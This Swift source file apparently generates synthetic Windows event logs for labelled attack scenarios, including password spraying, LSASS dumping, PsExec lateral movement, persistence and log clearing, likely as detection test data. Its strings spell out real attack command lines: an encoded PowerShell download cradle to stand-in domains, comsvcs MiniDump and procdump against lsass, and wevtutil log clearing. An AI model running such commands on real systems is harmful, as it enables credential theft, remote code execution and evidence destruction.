import Foundation
import SpoorCore

/// Attack scenarios whose traces are Windows events. Each runs on its own against one
/// client's real hosts and users and writes through the same builders as the benign activity.
enum WindowsScenarios {
    static let all: [ScenarioEntry] = [
        ScenarioEntry(name: "rdp-password-spraying", techniques: ["T1110.003"],
                      summary: "One internet address tries one password against many accounts over RDP (4625 bursts, NTLM 4776 failures), sometimes then logs on", run: { passwordSpraying(&$0) }),
        ScenarioEntry(name: "rdp-brute-force", techniques: ["T1110.001"],
                      summary: "One internet address guesses many passwords for one account over RDP, sometimes then logs on", run: { bruteForce(&$0) }),
        ScenarioEntry(name: "encoded-powershell", techniques: ["T1059.001"],
                      summary: "A document from mail starts hidden PowerShell with an encoded download cradle on a workstation", run: { encodedPowerShell(&$0) }),
        ScenarioEntry(name: "lsass-dump", techniques: ["T1003.001"],
                      summary: "LSASS memory dumped with rundll32 comsvcs.dll MiniDump or procdump (Sysmon 10 on lsass, Sysmon 11 the dump)", run: { lsassDump(&$0) }),
        ScenarioEntry(name: "lateral-movement-psexec", techniques: ["T1021.002", "T1569.002"],
                      summary: "A stolen admin account runs PsExec against a server: network logon, ADMIN$ share, PSEXESVC service, its children", run: { psexec(&$0) }),
        ScenarioEntry(name: "lateral-movement-rdp", techniques: ["T1021.001"],
                      summary: "From an employee's workstation, a stolen admin account opens an RDP session to a server out of hours", run: { lateralRDP(&$0) }),
        ScenarioEntry(name: "scheduled-task-persistence", techniques: ["T1053.005"],
                      summary: "schtasks /create of a task that starts a dropped binary (process creation and 4698)", run: { scheduledTask(&$0) }),
        ScenarioEntry(name: "service-persistence", techniques: ["T1543.003"],
                      summary: "sc create of an auto-start service for a dropped binary (process creation, 7045, 4697)", run: { servicePersistence(&$0) }),
        ScenarioEntry(name: "log-clearing", techniques: ["T1070.001"],
                      summary: "wevtutil cl clears the Security and System logs (process creation, 1102)", run: { logClearing(&$0) }),
    ]

    // MARK: Shared pieces

    static func recorder(_ c: inout ScenarioContext) -> WindowsRecorder {
        WindowsRecorder(client: c.simulation.client, rng: c.simulation.rng.split())
    }

    static func finish(_ rec: WindowsRecorder, _ c: inout ScenarioContext) {
        WindowsActivity.flush(rec.events, into: &c.simulation)
    }

    static func plus(_ t: Timestamp, _ seconds: Double) -> Timestamp { Timestamp(microseconds: t.microseconds + Int64(seconds * 1_000_000)) }

    /// Moves the start to the next working-hours moment (10:00–16:00 local, Monday–Friday).
    static func duringWork(_ c: inout ScenarioContext) {
        var t = c.start
        for _ in 0..<(24 * 8) {
            let l = c.simulation.local(t)
            if l.weekday < 6 && l.hour >= 10 && l.hour < 16 { break }
            t = plus(t, 3_600)
        }
        c.start = t
    }

    /// Moves the start to the next night (22:00–04:00 local).
    static func atNight(_ c: inout ScenarioContext) {
        var t = c.start
        for _ in 0..<48 {
            let h = c.simulation.local(t).hour
            if h >= 22 || h < 4 { break }
            t = plus(t, 3_600)
        }
        c.start = t
    }

    /// An internet address the attacker uses (documentation and hosting ranges).
    static func attackerIP(_ rng: inout SplitMix64) -> String {
        rng.pick(["45.134.26.", "185.220.101.", "91.240.118.", "194.26.29.", "141.98.11."]) + String(2 + rng.below(250))
    }

    /// The administrator account a campaign uses, drawn per campaign: which admin's credentials
    /// an intruder obtains differs from one intrusion to the next.
    static func stolenAdmin(_ client: SimClient, _ rng: inout SplitMix64) -> SimUser? {
        client.admins.isEmpty ? nil : rng.pick(client.admins)
    }

    static func target(_ c: ScenarioContext, _ rng: inout SplitMix64) -> (ws: SimHost, owner: SimUser)? {
        let client = c.simulation.client
        let candidates = client.workstations.compactMap { ws in ws.owner.flatMap(client.user).map { (ws, $0) } }
        return candidates.isEmpty ? nil : rng.pick(candidates)
    }

    /// An elevated shell of `user` on `host` that the attacker already holds.
    static func shell(_ rec: inout WindowsRecorder, _ user: SimUser, on host: SimHost, at t: Timestamp) -> WinProcess {
        var logon = rec.user(user)
        logon.isAdmin = true
        let explorer = rec.existing(.explorer, on: host, logon: logon, commandLine: "C:\\Windows\\Explorer.EXE", at: t)
        var p = rec.existing(.cmd, on: host, logon: logon, commandLine: "\"C:\\Windows\\system32\\cmd.exe\" ", at: t)
        p.integrity = "High"
        _ = explorer
        return p
    }

    // MARK: Credential access

    static func passwordSpraying(_ c: inout ScenarioContext) {
        var rec = recorder(&c)
        let client = c.simulation.client
        guard let dc = client.domainController, let server = client.hosts(.fileServer).first else { return }
        atNight(&c)
        let ip = attackerIP(&rec.rng), machine = rec.rng.pick(["kali", "WIN-3J8GK2L1QO", "DESKTOP-7N4PQ2", "-"])
        rec.label = c.label("T1110.003", "credential-access", step: "spray")
        var users = client.people.map(\.name).shuffledStable(&rec.rng)
        users += ["administrator", "admin", "scanner", "test", "backup", "guest"]
        var s = 0.0
        let rounds = 1 + rec.rng.below(2)
        var victim: SimUser? = nil
        for round in 0..<rounds {
            for name in users {
                let known = client.user(name)
                let now = plus(c.start, s)
                rec.failedLogon(name, type: 3, on: server, at: now, sourceIP: ip, workstation: machine, subStatus: known == nil ? "0xc0000064" : "0xc000006a")
                if known != nil { rec.ntlmValidation(name, workstation: machine, on: dc, at: plus(now, 0.01), status: "0xc000006a") }
                s += 0.5 + rec.rng.exponential(mean: 1.5)
                if round == rounds - 1, victim == nil, known?.role == .employee, rec.rng.chance(0.04) { victim = known }
            }
            s += 600 + rec.rng.exponential(mean: 900)
        }
        if let v = victim ?? (rec.rng.chance(0.4) ? client.people.first : nil) {
            rec.label = c.label("T1110.003", "credential-access", step: "login")
            let now = plus(c.start, s)
            var logon = rec.user(v)
            logon.isAdmin = false
            rec.ntlmValidation(v.name, workstation: machine, on: dc, at: now)
            rec.logon(logon, type: 3, on: server, at: plus(now, 0.02), sourceIP: ip, kerberos: false, workstation: machine)
        }
        finish(rec, &c)
    }

    static func bruteForce(_ c: inout ScenarioContext) {
        var rec = recorder(&c)
        let client = c.simulation.client
        guard let dc = client.domainController, let server = client.hosts(.fileServer).first else { return }
        atNight(&c)
        let ip = attackerIP(&rec.rng), machine = rec.rng.pick(["kali", "WIN-3J8GK2L1QO", "-"])
        // The target: an admin's account most of the time, else anyone's (from a leaked list).
        guard !client.people.isEmpty else { return }
        let account = rec.rng.chance(0.6) && !client.admins.isEmpty ? rec.rng.pick(client.admins) : rec.rng.pick(client.people)
        rec.label = c.label("T1110.001", "credential-access", step: "guess")
        var s = 0.0
        for _ in 0..<(40 + rec.rng.below(120)) {
            let now = plus(c.start, s)
            rec.failedLogon(account.name, sid: "S-1-0-0", type: 3, on: server, at: now, sourceIP: ip, workstation: machine)
            rec.ntlmValidation(account.name, workstation: machine, on: dc, at: plus(now, 0.01), status: "0xc000006a")
            s += 0.3 + rec.rng.exponential(mean: 2)
        }
        if rec.rng.chance(0.5) {
            rec.label = c.label("T1110.001", "credential-access", step: "login")
            let now = plus(c.start, s)
            let logon = rec.user(account)
            rec.ntlmValidation(account.name, workstation: machine, on: dc, at: now)
            rec.logon(logon, type: 3, on: server, at: plus(now, 0.02), sourceIP: ip, kerberos: false, workstation: machine)
        }
        finish(rec, &c)
    }

    static func lsassDump(_ c: inout ScenarioContext) {
        var rec = recorder(&c)
        let client = c.simulation.client
        guard let (ws, _) = target(c, &rec.rng), let admin = stolenAdmin(client, &rec.rng) else { return }
        duringWork(&c)
        rec.label = c.label("T1003.001", "credential-access", step: "dump")
        let shell = shell(&rec, admin, on: ws, at: c.start)
        let lsass = rec.existing(.lsass, on: ws, logon: WinLogon.system(ws, client), commandLine: "C:\\Windows\\system32\\lsass.exe", at: c.start)
        let now = plus(c.start, 5)
        if rec.rng.chance(0.5) {
            let out = "C:\\Windows\\Temp\\" + rec.rng.pick(["debug.bin", "lsass.dmp", "mem.tmp"])
            let p = rec.start(.rundll32, "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump \(lsass.pid) \(out) full", parent: shell, on: ws, at: now, integrity: "High")
            rec.access(p, lsass, on: ws, at: plus(now, 0.2), mask: "0x1FFFFF",
                       callTrace: WindowsRecorder.callTrace + "|C:\\Windows\\System32\\comsvcs.dll+2a0d4|C:\\Windows\\System32\\rundll32.exe+3bc3")
            rec.fileCreate(p, on: ws, at: plus(now, 1.5), path: out)
        } else {
            let p = rec.start(.procdump, "C:\\Users\\Public\\procdump64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\lsass.dmp", parent: shell, on: ws, at: now, integrity: "High")
            rec.access(p, lsass, on: ws, at: plus(now, 0.3), mask: "0x1FFFFF", callTrace: WindowsRecorder.callTrace + "|C:\\Windows\\System32\\dbgcore.DLL+6e6c|C:\\Users\\Public\\procdump64.exe+1a2b4")
            rec.fileCreate(p, on: ws, at: plus(now, 2), path: "C:\\Users\\Public\\lsass.dmp")
        }
        finish(rec, &c)
    }

    // MARK: Execution

    static func encodedPowerShell(_ c: inout ScenarioContext) {
        var rec = recorder(&c)
        let client = c.simulation.client
        guard let (ws, owner) = target(c, &rec.rng) else { return }
        duringWork(&c)
        rec.label = c.label("T1059.001", "execution", step: "cradle")
        let logon = rec.user(owner)
        let outlook = rec.existing(.outlook, on: ws, logon: logon, commandLine: "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" ", at: c.start)
        let doc = "C:\\Users\\\(owner.name)\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\\(WindowsEventWriter.hex(rec.rng.next(), 8))\\" + rec.rng.pick(["Rechnung_2026-03.doc", "Invoice_4471.docm", "Lieferschein.doc"])
        let word = rec.start(.word, "\"" + WinProgram.word.image + "\" /n \"" + doc + "\" /o \"\"", parent: outlook, on: ws, at: c.start)
        let domain = rec.rng.pick(["cdn-update.top", "office-telemetry.net", "msupdate-cdn.com"]), ip = attackerIP(&rec.rng)
        let path = "/" + rec.rng.pick(["a.ps1", "s.txt", "update.ps1"])
        let cradle = "IEX (New-Object Net.WebClient).DownloadString('http://\(domain)\(path)')"
        let encoded = Data(Array(cradle.utf16).flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }).base64EncodedString()
        let now = plus(c.start, 8 + rec.rng.unit() * 20)
        let ps = rec.start(.powershell, "powershell.exe -nop -w hidden -enc " + encoded, parent: word, on: ws, at: now)
        rec.dns(ps, on: ws, at: plus(now, 1.2), query: domain, answer: ip)
        rec.connect(ps, on: ws, at: plus(now, 1.3), to: ip, port: 80, portName: "http")
        rec.fileCreate(ps, on: ws, at: plus(now, 2.5), path: "C:\\Users\\\(owner.name)\\AppData\\Local\\Temp\\" + rec.rng.pick(["svc.exe", "update.exe", "wupd.dll"]))
        _ = client
        finish(rec, &c)
    }

    // MARK: Lateral movement

    static func psexec(_ c: inout ScenarioContext) {
        var rec = recorder(&c)
        let client = c.simulation.client
        guard let (ws, _) = target(c, &rec.rng), let dc = client.domainController, let admin = stolenAdmin(client, &rec.rng) else { return }
        let server = rec.rng.chance(0.5) ? dc : (client.hosts(.fileServer).first ?? dc)
        duringWork(&c)
        rec.label = c.label("T1021.002", "lateral-movement", step: "smb-logon")
        let shell = shell(&rec, admin, on: ws, at: c.start)
        let tool = WinProgram(image: "C:\\Users\\Public\\PsExec64.exe", fileVersion: "2.43", description: "Execute processes remotely", product: "Sysinternals PsExec",
                              company: "Sysinternals - www.sysinternals.com", originalFileName: "psexec.c")
        let px = rec.start(tool, "PsExec64.exe -accepteula \\\\\(server.fqdn(client)) -s cmd.exe", parent: shell, on: ws, at: c.start, integrity: "High")
        rec.connect(px, on: ws, at: plus(c.start, 0.2), to: server.ip.description, name: server.fqdn(client), port: 445, portName: "microsoft-ds")
        let remote = rec.psexecConnect(admin, from: ws, to: server, dc: dc, at: plus(c.start, 0.3))
        rec.label = c.label("T1569.002", "execution", step: "service")
        let cmd = rec.psexecService(remote, on: server, at: plus(c.start, 1.0), program: .cmd, typed: "cmd.exe", arguments: "")
        var s = 5.0
        for line in ["whoami /all", "net group \"Domain Admins\" /domain", "ipconfig /all"] {
            let prog: WinProgram = line.hasPrefix("whoami") ? .whoami : (line.hasPrefix("net ") ? .system("net.exe", "Net Command", original: "net.exe") : .system("ipconfig.exe", "IP Configuration Utility", original: "ipconfig.exe"))
            rec.start(prog, WindowsRecorder.typed(line), parent: cmd, on: server, at: plus(c.start, s))
            s += 4 + rec.rng.exponential(mean: 10)
        }
        finish(rec, &c)
    }

    static func lateralRDP(_ c: inout ScenarioContext) {
        var rec = recorder(&c)
        let client = c.simulation.client
        guard let (ws, owner) = target(c, &rec.rng), let dc = client.domainController, let admin = stolenAdmin(client, &rec.rng) else { return }
        let server = rec.rng.chance(0.5) ? dc : (client.hosts(.fileServer).first ?? dc)
        atNight(&c)
        rec.label = c.label("T1021.001", "lateral-movement", step: "rdp")
        let logon = rec.user(owner)
        let explorer = rec.existing(.explorer, on: ws, logon: logon, commandLine: "C:\\Windows\\Explorer.EXE", at: c.start)
        let mstsc = rec.start(.mstsc, "\"C:\\Windows\\system32\\mstsc.exe\" /v:" + server.ip.description, parent: explorer, on: ws, at: c.start)
        rec.connect(mstsc, on: ws, at: plus(c.start, 1), to: server.ip.description, port: 3389, portName: "ms-wbt-server")
        rec.serviceTicket(admin.name, service: server.name + "$", serviceSID: rec.computerSID(server), from: ws, on: dc, at: plus(c.start, 1.2))
        var remote = rec.user(admin)
        remote.session = 2 + rec.rng.below(3)
        let at = plus(c.start, 5)
        let session = 1 + rec.rng.below(30)
        rec.logon(remote, type: 10, on: server, at: at, from: ws, sourceIP: ws.ip.description)
        rec.rdpSession(remote, on: server, at: plus(at, 0.5), from: ws, reconnect: true, sessionNumber: session)
        let userinit = rec.existing(.userinit, on: server, logon: remote, at: at)
        var ex = rec.start(.explorer, "C:\\Windows\\Explorer.EXE", parent: userinit, on: server, at: plus(at, 3), directory: "C:\\Windows\\system32\\")
        ex.integrity = "High"
        let cmd = rec.start(.cmd, "\"C:\\Windows\\system32\\cmd.exe\" ", parent: ex, on: server, at: plus(at, 40), integrity: "High")
        rec.start(.whoami, "whoami", parent: cmd, on: server, at: plus(at, 48))
        rec.start(.system("net.exe", "Net Command", original: "net.exe"), WindowsRecorder.typed("net user /domain"), parent: cmd, on: server, at: plus(at, 61))
        let end = plus(at, 300 + rec.rng.exponential(mean: 600))
        rec.rdpSession(remote, on: server, at: end, from: ws, reconnect: false, sessionNumber: session)
        rec.logoff(remote, type: 10, on: server, at: plus(end, 1), userInitiated: true)
        finish(rec, &c)
    }

    // MARK: Persistence and defence evasion

    static func scheduledTask(_ c: inout ScenarioContext) {
        var rec = recorder(&c)
        guard let (ws, _) = target(c, &rec.rng), let admin = stolenAdmin(c.simulation.client, &rec.rng) else { return }
        duringWork(&c)
        rec.label = c.label("T1053.005", "persistence", step: "schtasks")
        let shell = shell(&rec, admin, on: ws, at: c.start)
        let name = rec.rng.pick(["OneDrive Standalone Update", "WindowsUpdateCheck", "AdobeFlashSync", "SystemHealthMonitor"])
        let binary = rec.rng.pick(["C:\\Users\\Public\\update.exe", "C:\\ProgramData\\svchost.exe", "C:\\Users\\Public\\Libraries\\health.exe"])
        rec.start(.schtasks, "schtasks  /create /tn \"\(name)\" /tr \"\(binary)\" /sc onlogon /ru SYSTEM /f", parent: shell, on: ws, at: plus(c.start, 2), integrity: "High")
        rec.taskCreated(shell.logon, on: ws, at: plus(c.start, 2.3), name: "\\" + name, command: binary, arguments: "", author: c.simulation.client.domain + "\\" + admin.name)
        finish(rec, &c)
    }

    static func servicePersistence(_ c: inout ScenarioContext) {
        var rec = recorder(&c)
        guard let (ws, _) = target(c, &rec.rng), let admin = stolenAdmin(c.simulation.client, &rec.rng) else { return }
        duringWork(&c)
        rec.label = c.label("T1543.003", "persistence", step: "sc-create")
        let shell = shell(&rec, admin, on: ws, at: c.start)
        let name = rec.rng.pick(["WinSvcHost", "UpdateOrchestratorSvc", "NetHelperSvc"])
        let binary = rec.rng.pick(["C:\\ProgramData\\svchost.exe", "C:\\Windows\\Temp\\nethelper.exe", "C:\\Users\\Public\\svc.exe"])
        rec.start(.sc, WindowsRecorder.typed("sc.exe create \(name) binPath= \"\(binary)\" start= auto DisplayName= \"\(name)\""), parent: shell, on: ws, at: plus(c.start, 2), integrity: "High")
        rec.serviceInstalled(shell.logon, on: ws, at: plus(c.start, 2.4), name: name, display: name, path: binary)
        finish(rec, &c)
    }

    static func logClearing(_ c: inout ScenarioContext) {
        var rec = recorder(&c)
        let client = c.simulation.client
        guard let admin = stolenAdmin(client, &rec.rng) else { return }
        let host = rec.rng.chance(0.5) ? (client.domainController ?? client.hosts[0]) : (target(c, &rec.rng)?.ws ?? client.hosts[0])
        atNight(&c)
        rec.label = c.label("T1070.001", "defense-evasion", step: "clear")
        let shell = shell(&rec, admin, on: host, at: c.start)
        rec.start(.wevtutil, "wevtutil  cl System", parent: shell, on: host, at: plus(c.start, 1), integrity: "High")
        rec.start(.wevtutil, "wevtutil  cl Security", parent: shell, on: host, at: plus(c.start, 3), integrity: "High")
        rec.logCleared(shell.logon, on: host, at: plus(c.start, 3.2))
        finish(rec, &c)
    }
}

extension Array {
    /// A shuffle driven by the simulation's generator (Fisher–Yates).
    func shuffledStable(_ rng: inout SplitMix64) -> [Element] {
        var a = self
        guard a.count > 1 else { return a }
        for i in stride(from: a.count - 1, to: 0, by: -1) { a.swapAt(i, rng.below(i + 1)) }
        return a
    }
}
